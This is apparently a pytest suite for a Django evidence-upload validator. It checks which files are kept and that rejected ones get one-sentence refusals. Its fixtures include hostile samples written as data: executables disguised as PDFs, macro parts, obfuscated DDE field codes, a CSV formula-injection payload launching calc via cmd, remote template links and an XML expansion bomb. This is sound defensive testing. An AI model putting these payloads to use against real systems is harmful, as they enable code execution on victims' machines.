"""Which files may be evidence; each refusal is one sentence."""

import io
import signal
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from safeguarding.lib.readers.office_files import Unreadable
from safeguarding.lib.uploads.files import check_evidence


def package(**members):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as into:
        for name, content in members.items():
            into.writestr(name, content)
    return made.getvalue()


def office(main_part, **more):
    types = f'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.{main_part}"/></Types>'
    return package(**{"[Content_Types].xml": types} | more)


def word(**more):
    return office("wordprocessingml.document.main+xml", **more)


WORD = office("wordprocessingml.document.main+xml")
EXCEL = office("spreadsheetml.sheet.main+xml")
ODT = package(mimetype="application/vnd.oasis.opendocument.text")
EXE = b"MZ\x90\x00" + b"\0" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 50
FIELD = '<x:document xmlns:x="w"><x:fldChar x:fldCharType="begin"/>%s<x:fldChar x:fldCharType="end"/></x:document>'
TEMPLATE = '<Relationships><Relationship Type="a/attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 50
JPEG = b"\xff\xd8\xff\xe0" + b"\0" * 50


def upload(name, content):
    return SimpleUploadedFile(name, content)


def by_name(value):
    """A test's name says the file's; its bytes hold the time of day, which would give each run other names."""
    return value if isinstance(value, str) else "content"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("audit.pdf", b"%PDF-1.7 and so on"),
        ("AUDIT.PDF", b"%PDF-1.7 and so on"),
        ("procedure.docx", WORD),
        ("figures.xlsx", EXCEL),
        ("talk.pptx", office("presentationml.presentation.main+xml")),
        ("procedure.odt", ODT),
        # a template of the force's own, and a field that only numbers pages
        ("procedure.docx", word(**{"word/_rels/s.rels": TEMPLATE % r"file:///\\force.example\templates\letter.dotx"})),
        ("procedure.docx", word(**{"word/a.xml": FIELD % "<x:instrText> PAGE </x:instrText>"})),
        ("wall.png", PNG),
        ("wall.jpeg", JPEG),
        ("minutes.txt", "Agreed – all.".encode()),
        ("sample.csv", b"a,b\n1,2\n"),
    ],
    ids=by_name,
)
def test_what_its_name_says_is_kept_and_left_at_its_beginning(name, content):
    file = upload(name, content)
    check_evidence(file)
    assert file.read() == content


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("tool.exe", EXE, "tool.exe is of a kind that is not kept here. Choose a file that is PDF, Word (.docx)"),
        ("old.doc", b"\xd0\xcf\x11\xe0", "old.doc is of a kind that is not kept here."),
        ("page.html", b"<script>", "page.html is of a kind that is not kept here."),
        ("audit.pdf", b"", "audit.pdf is empty. Check that it was saved, and choose it again."),
        ("audit.pdf", EXE, "audit.pdf is not what its name says: inside it is a .exe file."),
        ("minutes.txt", EXE, "minutes.txt is not what its name says: inside it is a .exe file."),
        ("figures.csv", b"a\0b", "figures.csv is not what its name says."),
        ("procedure.docx", EXCEL, "procedure.docx is not what its name says"),
        ("procedure.docx", package(anything="x"), "procedure.docx is not what its name says"),
        ("procedure.docx", WORD[:40], "procedure.docx is not what its name says"),
        ("procedure.odt", WORD, "procedure.odt is not what its name says"),
        (
            "figures.xlsx",
            office("spreadsheetml.sheet.main+xml", **{"xl/vbaProject.bin": "x"}),
            "figures.xlsx carries macros. Save it without them and choose that copy.",
        ),
        (
            "procedure.odt",
            package(**{"mimetype": "application/vnd.oasis.opendocument.text", "Basic/script.xml": "x"}),
            "procedure.odt carries macros.",
        ),
        (
            "procedure.docx",
            word(**{"word/media/image1.png": OLE}),
            "carries an embedded object or macros. Save it without it",
        ),
        ("procedure.docx", word(**{"word/media/image1.png": EXE}), "procedure.docx carries a program."),
        (
            "procedure.docx",
            word(
                **{
                    "word/a.xml": FIELD
                    % "<x:instrText> D</x:instrText><x:t>1</x:t><x:instrText><![CDATA[DEAUTO c]]></x:instrText>"
                }
            ),
            "carries a link that starts another program (DDE).",
        ),
        ("procedure.docx", word(**{"word/a.xml": FIELD % '<x:fldSimple x:instr="&#68;DE c"/>'}), "(DDE)."),
        # parts that do not begin as parts do, and are read by Word all the same
        ("procedure.docx", word(**{"word/a.xml": "\n" * 99 + FIELD % '<x:fldSimple x:instr="DDE c"/>'}), "(DDE)."),
        (
            "procedure.docx",
            word(**{"word/a.xml": (FIELD % '<x:fldSimple x:instr="DDE c"/>').encode("utf-16-be")}),
            "(DDE).",
        ),
        (
            "figures.xlsx",
            office("spreadsheetml.sheet.main+xml", **{"xl/a.xml": "<macrosheet/>"}),
            "figures.xlsx carries macros.",
        ),
        (
            "figures.xlsx",
            office(
                "spreadsheetml.sheet.main+xml",
                **{"xl/a.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
            ),
            "(DDE).",
        ),
        (
            "procedure.docx",
            word(**{"word/a.xml": f"<a>{'<b/>' * 1_000_000}</a>"}),
            "carries more than can be looked through",
        ),
        ("sample.csv", b"a,b\n" * 4000 + b"1,=cmd|' /C calc'!A0\n", "(DDE)."),
        (
            "procedure.docx",
            word(**{"word/_rels/s.rels": TEMPLATE % "https://elsewhere.example/t.dotm"}),
            "fetched from the web.",
        ),
        (
            "procedure.docx",
            word(**{"word/_rels/s.rels": TEMPLATE % r"\\elsewhere@SSL\t.dotm"}),
            "fetched from the web.",
        ),
    ],
    ids=by_name,
)
def test_what_may_not_be_kept_is_refused_in_a_sentence(name, content, says):
    with pytest.raises(Unreadable) as refused:
        check_evidence(upload(name, content))
    assert says in str(refused.value)


def test_a_file_over_50_mb_is_refused_by_its_size_alone():
    file = upload("film.pdf", b"%PDF-1.7")
    file.size = 50_000_001
    with pytest.raises(Unreadable) as refused:
        check_evidence(file)
    assert str(refused.value) == "film.pdf is larger than 50 MB. Make it smaller, or say where it is held."
    file.size = 50_000_000
    check_evidence(file)


def test_a_line_of_nothing_but_tabs_is_looked_through_at_once():
    def too_long(*told):
        raise AssertionError("It took over five seconds.")

    signal.signal(signal.SIGALRM, too_long)
    signal.alarm(5)
    try:
        check_evidence(upload("sample.csv", b"\t" * 200_000))
    finally:
        signal.alarm(0)
